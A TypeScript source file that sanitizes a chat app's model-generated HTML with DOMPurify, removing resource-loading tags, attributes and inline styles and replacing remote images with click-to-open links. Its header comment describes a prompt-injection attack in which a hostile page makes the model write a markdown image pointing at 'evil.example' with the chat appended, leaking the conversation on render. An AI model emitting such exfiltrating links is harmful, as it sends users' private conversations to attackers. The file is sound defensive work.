/**
 * Untrusted HTML (model output rendered from Markdown, with any raw HTML the model wrote)
 * → HTML that can neither run code nor make the app load anything by itself.
 *
 * DOMPurify removes scripts and event handlers. Loading is the other leak: a model that
 * read a hostile page can be told to write `![](https://evil.example/?q=<the chat>)`, and
 * an image, a video poster, a `srcset` candidate, a table `background` or a CSS `url()`
 * would send the conversation off the moment the answer shows. So only what cannot fetch
 * stays: media elements go, every attribute that names a resource to load goes, inline
 * styles go, and `<img>` stays only for `data:` images; any other image becomes a link
 * the person may click ("Open image from host"). The app's Content-Security-Policy
 * (`img-src 'self' data: blob:`, see `pwa/security-headers.ts`) backs this up.
 */
import createDOMPurify, { type WindowLike } from 'dompurify';

/** Elements that fetch by themselves (their children, e.g. `<picture>`'s `<img>`, are kept and judged alone). */
const FORBID_TAGS = ['style', 'link', 'meta', 'base', 'form', 'input', 'button', 'video', 'audio', 'picture', 'source', 'track', 'object', 'embed', 'iframe', 'frame', 'frameset', 'svg', 'math'];
/** Attributes that name something to load (or carry CSS, which can). */
const FORBID_ATTR = ['style', 'srcset', 'sizes', 'background', 'poster', 'ping', 'lowsrc', 'dynsrc', 'longdesc', 'formaction', 'action', 'xlink:href', 'data', 'codebase', 'cite', 'manifest', 'icon'];

/** An image the browser can show without a request: raster or SVG bytes inlined as `data:`. */
function inlineImage(src: string | null): boolean {
  return src !== null && /^data:image\/(png|gif|jpe?g|webp|avif|bmp|svg\+xml)[;,]/i.test(src.trim());
}

function hostOf(url: string): string | null {
  try {
    const parsed = new URL(url);
    return parsed.protocol === 'http:' || parsed.protocol === 'https:' ? parsed.host : null;
  } catch {
    return null;
  }
}

/**
 * A sanitizer bound to `window` (the page's; a jsdom one in unit tests).
 *
 * @example
 * const sanitize = createSanitizer(window);
 * element.innerHTML = sanitize(marked.parse(text));
 */
export function createSanitizer(window: WindowLike): (html: string) => string {
  const purify = createDOMPurify(window);
  purify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
  return (html) => {
    const fragment = purify.sanitize(html, { USE_PROFILES: { html: true }, FORBID_TAGS, FORBID_ATTR, RETURN_DOM_FRAGMENT: true });
    const doc = fragment.ownerDocument;
    for (const img of Array.from(fragment.querySelectorAll('img'))) {
      const src = img.getAttribute('src');
      if (inlineImage(src)) continue;
      const host = src ? hostOf(src) : null;
      const alt = img.getAttribute('alt')?.trim();
      if (!host || !src) {
        // Nothing a click could open (relative, `javascript:`, missing): just the description.
        img.replaceWith(doc.createTextNode(alt ? `[image: ${alt}]` : ''));
        continue;
      }
      const link = doc.createElement('a');
      link.className = 'image-link';
      link.href = src;
      link.target = '_blank';
      link.rel = 'noopener noreferrer';
      link.title = src;
      link.textContent = `${alt ? `${alt} — ` : ''}Open image from ${host}`;
      img.replaceWith(link);
    }
    // Code blocks scroll sideways: keyboard users reach them with Tab (and scroll with the arrows).
    for (const pre of Array.from(fragment.querySelectorAll('pre'))) pre.setAttribute('tabindex', '0');
    const container = doc.createElement('div');
    container.append(fragment);
    return container.innerHTML;
  };
}
